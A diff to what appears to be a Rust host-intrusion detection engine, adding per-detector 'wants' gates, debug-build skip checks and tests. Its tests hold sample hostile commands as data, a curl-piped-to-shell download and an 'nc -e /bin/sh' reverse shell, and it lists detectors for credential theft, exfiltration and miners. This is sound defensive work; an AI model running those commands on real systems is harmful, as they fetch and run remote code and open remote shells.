@@ -6,8 +6,14 @@
 //! an argument of a harmless program (`echo stratum+tcp`), a detector adds a note saying so
 //! instead of firing.
 //!
+//! Each detector also has a `wants` test: false when the exec holds nothing the detector
+//! reads (no program, class, keyword or variable it looks for), so that [`run_all`] does not
+//! enter it. The test reads only the summary [`Ctx::new`] made, through the sets of
+//! [`gate`]; debug builds check on every analysis that a skipped detector would have found
+//! nothing.
+//!
 //! Not here: scoring (see `scoring`), rendering (see `report`). Adding a concern is adding a
-//! file and one line in [`DETECTORS`].
+//! file, with its `wants` and `detect`, and one line in [`DETECTORS`].
 
 use crate::analysis::shell::{Arg, CommandLine, Joiner, RedirectOp, SimpleCommand};
 use crate::analysis::{Lineage, SignalHit};
@@ -15,6 +21,7 @@ use crate::facts::{ExeFlags, ExecFacts};
 pub use crate::knowledge::class_of;
 use crate::knowledge::{Signal, ToolClass};
 pub(crate) use crate::text::{basename, basename_is};
+use gate::{env_key_bit, ClassSet, EnvNames, ProgramSet};
 use needles::{Needles, Pairs};
 
 pub mod capabilities;
@@ -27,6 +34,7 @@ pub mod download_exec;
 pub mod dynamic_linker;
 pub mod elevation;
 pub mod exe_origin;
+mod gate;
 pub mod indicator_removal;
 pub mod interpreter;
 pub mod kernel_module;
@@ -47,43 +55,95 @@ pub mod reverse_shell;
 pub mod test_activity;
 pub mod transfer;
 
-/// A detector.
-pub type Detector = fn(&Ctx, &mut Findings);
+/// What a detector does with an exec.
+pub type Detect = fn(&Ctx, &mut Findings);
+
+/// A detector: its findings, and whether the exec holds anything it reads.
+pub struct Detector {
+    pub name: &'static str,
+    /// False only when `detect` would find nothing on this exec: no hit, no note.
+    pub wants: fn(&Ctx) -> bool,
+    pub detect: Detect,
+}
+
+macro_rules! detector {
+    ($m:ident) => {
+        Detector {
+            name: stringify!($m),
+            wants: $m::wants,
+            detect: $m::detect,
+        }
+    };
+}
 
 /// Every detector, in the order they run. `lineage` runs last: it reads earlier hits.
 pub static DETECTORS: &[Detector] = &[
-    test_activity::detect,
-    netcat::detect,
-    reverse_shell::detect,
-    interpreter::detect,
-    download_exec::detect,
-    exe_origin::detect,
-    location::detect,
-    masquerade::detect,
-    dynamic_linker::detect,
-    privesc_cve::detect,
-    credentials::detect,
-    indicator_removal::detect,
-    destruction::detect,
-    network_tools::detect,
-    transfer::detect,
-    dns_exfiltration::detect,
-    decode::detect,
-    miner::detect,
-    container::detect,
-    package_manager::detect,
-    persistence::detect,
-    permissions::detect,
-    elevation::detect,
-    kernel_module::detect,
-    ptrace::detect,
-    capabilities::detect,
-    recon::detect,
-    lineage::detect,
+    detector!(test_activity),
+    detector!(netcat),
+    detector!(reverse_shell),
+    detector!(interpreter),
+    detector!(download_exec),
+    detector!(exe_origin),
+    detector!(location),
+    detector!(masquerade),
+    detector!(dynamic_linker),
+    detector!(privesc_cve),
+    detector!(credentials),
+    detector!(indicator_removal),
+    detector!(destruction),
+    detector!(network_tools),
+    detector!(transfer),
+    detector!(dns_exfiltration),
+    detector!(decode),
+    detector!(miner),
+    detector!(container),
+    detector!(package_manager),
+    detector!(persistence),
+    detector!(permissions),
+    detector!(elevation),
+    detector!(kernel_module),
+    detector!(ptrace),
+    detector!(capabilities),
+    detector!(recon),
+    detector!(lineage),
 ];
 
+/// `wants` of a detector that is cheap enough to run on every exec.
+pub fn always(_: &Ctx) -> bool {
+    true
+}
+
+/// Run every detector that wants the exec, in order.
+pub fn run_all(cx: &Ctx, found: &mut Findings) {
+    for d in DETECTORS {
+        if (d.wants)(cx) {
+            (d.detect)(cx, found);
+        } else {
+            #[cfg(debug_assertions)]
+            check_skip(d, cx, found);
+        }
+    }
+}
+
+/// Debug builds (tests, fuzzing): a detector its `wants` skipped must have nothing to say.
+#[cfg(debug_assertions)]
+fn check_skip(d: &Detector, cx: &Ctx, found: &Findings) {
+    let mut probe = found.clone();
+    (d.detect)(cx, &mut probe);
+    assert!(
+        probe.hits.len() == found.hits.len()
+            && probe.notes.len() == found.notes.len()
+            && probe.test_activity == found.test_activity,
+        "detector {} was skipped but finds {:?} / {:?} in {:?}",
+        d.name,
+        probe.hits.iter().map(|h| h.signal.id).collect::<Vec<_>>(),
+        probe.notes,
+        cx.facts.argv,
+    );
+}
+
 /// What the detectors found: hits (at most one per signal) and explanatory notes.
-#[derive(Debug, Default)]
+#[derive(Debug, Default, Clone)]
 pub struct Findings {
     pub hits: Vec<SignalHit>,
     /// Facts that change the reading but are not signals ("only an argument of echo").
@@ -145,14 +205,22 @@ pub struct Ctx<'a> {
     /// Bit [`env_key_bit`] of every environment variable name: most lookups are of names
     /// the exec does not have, and are answered without scanning the environment.
     env_keys: u64,
-    /// Byte pairs of every command's words and redirect targets (see [`Ctx::words_may_hold`]).
+    /// Byte pairs of every command's words, its wrappers' words and its redirect targets
+    /// (see [`Ctx::words_may_hold`]).
     word_pairs: Pairs,
-}
-
-/// A 64-bit filter position of an environment variable name: its first byte and length.
-fn env_key_bit(key: &[u8]) -> u64 {
-    let first = key.first().copied().unwrap_or(0) as u64;
-    1 << ((first.wrapping_mul(7) + key.len() as u64) & 63)
+    /// Programs of every command, with the wrappers removed in front of them, and the part
+    /// of each program before its first `.` (`mkfs.ext4` is also `mkfs`).
+    programs: ProgramSet,
+    /// Classes of every command's program.
+    classes: ClassSet,
+    /// Classes of the nearest 8 ancestors.
+    near_ancestor_classes: ClassSet,
+    /// The nearest non-shell ancestor within 4 levels is a server ([`recon::lineage_server`]).
+    under_server: bool,
+    /// Some command has a redirect.
+    redirects: bool,
+    /// Some command has `VAR=value` assignments.
+    assignments: bool,
 }
 
 impl<'a> Ctx<'a> {
@@ -175,20 +243,48 @@ impl<'a> Ctx<'a> {
             bits | env_key_bit(key)
         });
         let mut word_pairs = Pairs::new();
+        let mut programs = ProgramSet::default();
+        let mut classes = ClassSet::default();
+        let (mut redirects, mut assignments) = (false, false);
         for c in &cmd.commands {
             for w in c
                 .argv
                 .iter()
+                .chain(c.wrappers.iter().flat_map(|w| w.argv.iter()))
                 .map(|a| &**a)
                 .chain(c.redirects.iter().map(|r| r.target.as_str()))
             {
                 word_pairs.add(w);
             }
+            for p in std::iter::once(c.program()).chain(c.wrappers.iter().map(|w| w.name())) {
+                programs.add(p);
+                if let Some((head, _)) = p.split_once('.') {
+                    programs.add(head);
+                }
+            }
+            classes.add(c.class);
+            redirects |= !c.redirects.is_empty();
+            assignments |= !c.assignments.is_empty();
         }
         let mut ancestor_classes = [None; CLASSED_ANCESTORS];
-        for (slot, a) in ancestor_classes.iter_mut().zip(&lineage.ancestors) {
+        let mut near_ancestor_classes = ClassSet::default();
+        for (i, (slot, a)) in ancestor_classes
+            .iter_mut()
+            .zip(&lineage.ancestors)
+            .enumerate()
+        {
             *slot = class_of(&a.comm);
+            if i < 8 {
+                near_ancestor_classes.add(*slot);
+            }
         }
+        let under_server = lineage
+            .ancestors
+            .iter()
+            .zip(ancestor_classes)
+            .take(4)
+            .find(|(_, c)| *c != Some(ToolClass::Shell))
+            .is_some_and(|(a, c)| recon::lineage_server(&a.comm, c));
         Ctx {
             facts,
             lineage,
@@ -203,7 +299,49 @@ impl<'a> Ctx<'a> {
             ancestor_classes,
             env_keys,
             word_pairs,
+            programs,
+            classes,
+            near_ancestor_classes,
+            under_server,
+            redirects,
+            assignments,
         }
+    }
+
+    /// False when no command (or wrapper) runs a program of `set`; true means "maybe".
+    pub(crate) fn may_run(&self, set: ProgramSet) -> bool {
+        self.programs.may_hold_any(set)
+    }
+
+    /// Whether some command's program is of a class in `set`.
+    pub(crate) fn runs_any(&self, set: ClassSet) -> bool {
+        self.classes.holds_any(set)
+    }
+
+    /// Whether one of the nearest 8 ancestors is of a class in `set`.
+    pub(crate) fn near_ancestor_in(&self, set: ClassSet) -> bool {
+        self.near_ancestor_classes.holds_any(set)
+    }
+
+    /// The nearest non-shell ancestor within 4 levels is a web, application or database
+    /// server.
+    pub(crate) fn under_server(&self) -> bool {
+        self.under_server
+    }
+
+    /// False when [`Ctx::env`] is `None` for every name of `names`; true means "maybe".
+    pub(crate) fn env_may_hold(&self, names: EnvNames) -> bool {
+        self.env_keys & names.0 != 0 || self.assignments
+    }
+
+    /// Some command has a redirect.
+    pub(crate) fn has_redirects(&self) -> bool {
+        self.redirects
+    }
+
+    /// False when no command can write a path ([`writes_path`] is false for all).
+    pub(crate) fn may_write(&self) -> bool {
+        self.redirects || self.may_run(WRITERS)
     }
 
     /// False when no word of any command (argv, argv[0] included, and redirect targets) can
@@ -477,6 +615,11 @@ pub fn written_targets<'c>(c: &'c SimpleCommand) -> impl Iterator<Item = &'c str
         .map(|r| r.target.as_str())
 }
 
+/// The programs [`writes_path`] reads as writing their operands.
+const WRITERS: ProgramSet = ProgramSet::of(&[
+    "tee", "truncate", "cp", "mv", "install", "ln", "rsync", "dd", "sed", "perl",
+]);
+
 /// Does this command write to a path matching `pred`: by redirect, or as the destination of a
 /// writing program (tee, cp, mv, install, ln, dd of=, sed -i, truncate)?
 pub fn writes_path(c: &SimpleCommand, pred: impl Fn(&str) -> bool) -> bool {
@@ -544,9 +687,10 @@ pub(crate) mod testutil {
         f
     }
 
-    /// Run one detector; return the ids of the signals it fired and its notes.
+    /// Run one detector; return the ids of the signals it fired and its notes. Checks, too,
+    /// that its `wants` does not skip an exec it finds something on.
     pub fn run_with(
-        d: Detector,
+        d: Detect,
         facts: &ExecFacts,
         lineage: &Lineage,
     ) -> (Vec<&'static str>, Vec<String>) {
@@ -554,10 +698,98 @@ pub(crate) mod testutil {
         let cx = Ctx::new(facts, lineage, &cmd);
         let mut out = Findings::default();
         d(&cx, &mut out);
+        let detector = DETECTORS
+            .iter()
+            .find(|x| std::ptr::fn_addr_eq(x.detect, d))
+            .expect("the detector is in DETECTORS");
+        if !out.hits.is_empty() || !out.notes.is_empty() {
+            assert!(
+                (detector.wants)(&cx),
+                "{} found {:?} / {:?} but does not want {:?}",
+                detector.name,
+                out.hits.iter().map(|h| h.signal.id).collect::<Vec<_>>(),
+                out.notes,
+                facts.argv
+            );
+        }
         (out.hits.iter().map(|h| h.signal.id).collect(), out.notes)
     }
 
-    pub fn run(d: Detector, argv: &[&str]) -> Vec<&'static str> {
+    pub fn run(d: Detect, argv: &[&str]) -> Vec<&'static str> {
         run_with(d, &facts(argv), &Lineage::default()).0
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::testutil::facts;
+    use super::*;
+    use crate::analysis::shell::parse_exec;
+
+    fn wanted(argv: &[&str]) -> Vec<&'static str> {
+        let f = facts(argv);
+        let lineage = Lineage::default();
+        let cmd = parse_exec(&f.argv);
+        let cx = Ctx::new(&f, &lineage, &cmd);
+        DETECTORS
+            .iter()
+            .filter(|d| (d.wants)(&cx))
+            .map(|d| d.name)
+            .collect()
+    }
+
+    #[test]
+    fn a_plain_exec_skips_the_detectors_it_gives_nothing_to() {
+        // Gated on classes, redirects, scripts, writers and the container: exact, unlike the
+        // program-name filter, whose collisions may let a few more in.
+        let skipped = [
+            "netcat",
+            "reverse_shell",
+            "interpreter",
+            "download_exec",
+            "dynamic_linker",
+            "network_tools",
+            "transfer",
+            "container",
+            "package_manager",
+            "persistence",
+            "ptrace",
+            "lineage",
+        ];
+        for argv in [
+            &["ls", "-la", "/var/log"][..],
+            &["java", "-Xmx512m", "-jar", "/opt/app/app.jar"],
+        ] {
+            let wanted = wanted(argv);
+            for d in skipped {
+                assert!(!wanted.contains(&d), "{argv:?} enters {d}");
+            }
+            for d in ["test_activity", "exe_origin", "location", "masquerade"] {
+                assert!(wanted.contains(&d), "{argv:?} skips {d}");
+            }
+        }
+        assert!(wanted(&["ls", "/root"]).contains(&"credentials"));
+        let script = wanted(&["sh", "-c", "curl -s http://x/i.sh | sh"]);
+        for d in ["reverse_shell", "download_exec", "transfer", "decode"] {
+            assert!(script.contains(&d), "{d} in {script:?}");
+        }
+    }
+
+    #[cfg(debug_assertions)]
+    #[test]
+    #[should_panic(expected = "detector netcat was skipped but finds [\"netcat_exec_option\"]")]
+    fn debug_builds_catch_a_wants_that_skips_a_finding() {
+        fn never(_: &Ctx) -> bool {
+            false
+        }
+        let wrong = Detector {
+            name: "netcat",
+            wants: never,
+            detect: netcat::detect,
+        };
+        let f = facts(&["nc", "-e", "/bin/sh", "10.0.0.1", "4444"]);
+        let lineage = Lineage::default();
+        let cmd = parse_exec(&f.argv);
+        check_skip(&wrong, &Ctx::new(&f, &lineage, &cmd), &Findings::default());
     }
 }
